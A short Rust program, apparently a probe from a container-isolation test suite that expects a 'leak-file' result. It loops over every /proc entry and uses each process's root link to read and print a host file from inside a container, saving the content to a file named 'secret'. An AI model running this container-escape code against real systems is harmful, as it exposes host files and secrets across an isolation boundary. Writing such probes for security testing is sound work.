// must get: leak-file
//! attack-proc FILE: prints a file of the host, from a container that has the host's /proc.

use std::fs;
use std::process::exit;

fn main() {
    let file = std::env::args().nth(1).unwrap();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let path = format!("{}/root{file}", entry.path().display());
        if let Ok(content) = fs::read_to_string(path) {
            fs::write("secret", &content).ok();
            println!("{content}");
            exit(0)
        }
    }
    exit(1)
}
